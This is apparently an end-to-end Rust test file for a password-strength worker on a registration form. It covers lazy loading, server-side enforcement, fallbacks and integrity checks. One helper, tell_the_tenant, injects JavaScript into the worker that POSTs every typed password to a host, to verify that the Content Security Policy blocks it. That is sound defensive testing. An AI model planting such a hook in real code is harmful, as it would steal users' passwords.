//! The worker that judges passwords: loaded when the password gets the focus, under the strict policy. That no policy is
//! violated and that no password is stored is checked after every story.

use portico_e2e::{ADDRESS, PASSWORD, Settings, Visitor, story};
use portico_tenant::{Operation, Strength};
use serde_json::{Value, json};
use std::{fs, path::Path};

fn strict_pool() -> Settings {
    Settings {
        tenant: |tenant| tenant.policy().strength = Strength::Strong,
        ..Settings::default()
    }
}

/// How much of the worker this page has asked for.
async fn asked_for(visitor: &Visitor) -> serde_json::Value {
    visitor
        .run(
            "return performance.getEntriesByType('resource').filter((one) => one.name.includes('/assets/strength-')).length",
            vec![],
        )
        .await
}

async fn wait_for_rule(visitor: &Visitor, state: &str) {
    visitor
        .wait_with(
            &format!("the rule of strength: {state}"),
            "return document.querySelector('[data-rule=strength]')?.dataset.state === arguments[0]",
            vec![json!(state)],
        )
        .await;
}

#[test]
fn strength_is_judged_in_a_worker_that_is_loaded_when_it_is_needed() {
    story(strict_pool(), async |world| {
        let visitor = &world.visitor;
        visitor.comes_to_the_form_as(ADDRESS).await;
        visitor.fills_the_form().await;
        visitor.reload().await;
        visitor.wait_for_screen("filling").await;
        assert_eq!(
            asked_for(visitor).await,
            json!(0),
            "nobody has turned to the password"
        );
        visitor.type_into("password", "Password1234!").await;
        wait_for_rule(visitor, "unmet").await;
        assert_ne!(asked_for(visitor).await, json!(0));
        let score = visitor.attribute("password-strength", "data-score").await;
        assert!(["0", "1"].contains(&score.as_deref().unwrap()), "{score:?}");
        assert!(
            visitor
                .text_of("password-strength")
                .await
                .contains("easy to guess")
        );
        visitor.inspect("filling-weak-password").await;
        visitor.press("register").await;
        visitor.assert_told_of_mistakes_in(&["password"]).await;
        assert_eq!(
            world.count(Operation::Register),
            0,
            "the pool's level is a rule"
        );
        let issue = visitor.text_of("password-issue").await;
        assert!(issue.contains("“strong” is asked for"), "{issue}");
        assert!(
            visitor
                .text_of("password-strength")
                .await
                .contains("easy to guess")
        );
        visitor.inspect("filling-too-weak-password").await;
        // The press comes before the worker has looked at it, and waits for that.
        visitor.type_into("password", PASSWORD).await;
        visitor.press("register").await;
        visitor.wait_for_screen("activating").await;
        world.activates(ADDRESS).await;
        world.assert_active(ADDRESS, PASSWORD);
    });
}

#[test]
fn a_press_that_waits_for_the_worker_says_so_and_goes_on_without_it() {
    story(strict_pool(), async |world| {
        let visitor = &world.visitor;
        // A worker that is there and never answers.
        visitor
            .devtools(
                "Page.addScriptToEvaluateOnNewDocument",
                json!({ "source": "Worker.prototype.postMessage = () => {}" }),
            )
            .await;
        visitor.comes_to_the_form_as(ADDRESS).await;
        visitor.fills_the_form().await;
        visitor.press("register").await;
        visitor
            .wait_for(
                "the button to say what it waits for",
                "return document.getElementById('register').innerText.startsWith('Checking your password')",
            )
            .await;
        assert!(visitor.has("#password[readonly]").await);
        visitor.inspect("filling-password-is-checked").await;
        visitor.wait_for_screen("activating").await;
        world.activates(ADDRESS).await;
        world.assert_active(ADDRESS, PASSWORD);
    });
}

/// Asserts that only the tenant judges: it refuses a weak password, and a good one makes an account.
async fn the_tenant_judges(visitor: &Visitor) {
    visitor.expects_in_console("status of 422");
    visitor.comes_to_the_form_as(ADDRESS).await;
    visitor.fills_the_form().await;
    visitor.type_into("password", "Password1234!").await;
    wait_for_rule(visitor, "checked-later").await;
    visitor.press("register").await;
    visitor.assert_told_of_mistakes_in(&["password"]).await;
    visitor.type_into("password", PASSWORD).await;
    visitor.press("register").await;
    visitor.wait_for_screen("activating").await;
}

#[test]
fn where_the_browser_saves_data_the_worker_is_not_loaded_and_the_tenant_judges() {
    story(strict_pool(), async |world| {
        let visitor = &world.visitor;
        visitor.saves_data().await;
        the_tenant_judges(visitor).await;
        assert_eq!(asked_for(visitor).await, json!(0));
        world.activates(ADDRESS).await;
    });
}

/// Removes the files of the worker with this ending from the site.
fn without(dist: &Path, ending: &str) {
    for file in fs::read_dir(dist.join("assets")).unwrap() {
        let path = file.unwrap().path();
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        if name.starts_with("strength-") && name.contains(ending) {
            fs::remove_file(path).unwrap();
        }
    }
}

#[test]
fn where_the_worker_is_missing_the_tenant_judges() {
    let settings = Settings {
        site: Some(|dist| without(dist, ".js")),
        ..strict_pool()
    };
    story(settings, async |world| {
        world.visitor.expects_in_console("status of 404");
        the_tenant_judges(&world.visitor).await;
        world.activates(ADDRESS).await;
    });
}

#[test]
fn where_its_web_assembly_was_changed_it_is_not_run_and_the_tenant_judges() {
    fn change(dist: &Path) {
        without(dist, ".wasm.");
        for file in fs::read_dir(dist.join("assets")).unwrap() {
            let path = file.unwrap().path();
            let name = path.file_name().unwrap().to_string_lossy().into_owned();
            if name.starts_with("strength-") && name.ends_with(".wasm") {
                let mut bytes = fs::read(&path).unwrap();
                *bytes.last_mut().unwrap() ^= 1;
                fs::write(&path, bytes).unwrap();
            }
        }
    }
    let settings = Settings {
        site: Some(change),
        ..strict_pool()
    };
    story(settings, async |world| {
        world.visitor.expects_in_console("integrity");
        the_tenant_judges(&world.visitor).await;
        world.activates(ADDRESS).await;
    });
}

/// Makes the worker send each password to the tenant before it judges it, as an attacker could who can write this one
/// file on the host.
fn tell_the_tenant(dist: &Path) {
    without(dist, ".js.");
    for file in fs::read_dir(dist.join("assets")).unwrap() {
        let path = file.unwrap().path();
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        if name.starts_with("strength-") && name.ends_with(".js") {
            let script = fs::read_to_string(&path).unwrap();
            let tells = "\nconst judges = onmessage;
                onmessage = async (event) => {
                    // The worker's own policy allows one file, so not even the tenant's address can be reached.
                    const config = await fetch('/config.json').then((answer) => answer.json()).catch(() => null);
                    const [, password] = event.data;
                    const to = config ? config.tenant.issuer + '/oauth2/token' : 'http://127.0.0.1:9/oauth2/token';
                    await fetch(to, { method: 'POST', mode: 'no-cors', body: password }).catch(() => {});
                    judges(event);
                };";
            fs::write(path, script + tells).unwrap();
        }
    }
}

/// Changes what the host says with the worker's script.
fn with_policy(dist: &Path, change: impl Fn(&str) -> Option<String>) {
    let file = dist.join("headers.json");
    let mut headers: Value = serde_json::from_str(&fs::read_to_string(&file).unwrap()).unwrap();
    let changed = change(headers["workers"][0][1].as_str().unwrap());
    match changed {
        Some(policy) => headers["workers"][0][1] = json!(policy),
        None => headers["workers"] = json!([]),
    }
    fs::write(file, headers.to_string()).unwrap();
}

#[test]
fn a_changed_script_of_the_worker_cannot_send_the_password_anywhere() {
    type Host = fn(&Path);
    // Netlify sends the page's policy as well: the browser obeys both.
    let beside_the_pages: Host = |dist| {
        tell_the_tenant(dist);
        with_policy(dist, |own| {
            let page = "default-src 'none'; script-src 'wasm-unsafe-eval'; \
                connect-src 'self' http://127.0.0.1:*; require-trusted-types-for 'script'; \
                trusted-types portico-strength";
            Some(format!("{page}, {own}"))
        });
    };
    // With the page's policy in place of its own it can reach the tenant, which that policy has to name.
    let forgotten: Host = |dist| {
        tell_the_tenant(dist);
        with_policy(dist, |_| None);
    };
    for (site, told) in [
        (tell_the_tenant as Host, false),
        (beside_the_pages, false),
        (forgotten, true),
    ] {
        let settings = Settings {
            site: Some(site),
            ..strict_pool()
        };
        story(settings, async |world| {
            let visitor = &world.visitor;
            visitor.expects_in_console("Content Security Policy");
            visitor.expects_in_console("status of 400");
            visitor.comes_to_the_form_as(ADDRESS).await;
            let before = world.count(Operation::Token);
            visitor.type_into("password", PASSWORD).await;
            wait_for_rule(visitor, "met").await;
            let after = world.count(Operation::Token);
            assert_eq!(after > before, told, "{before} and {after} requests");
        });
    }
}
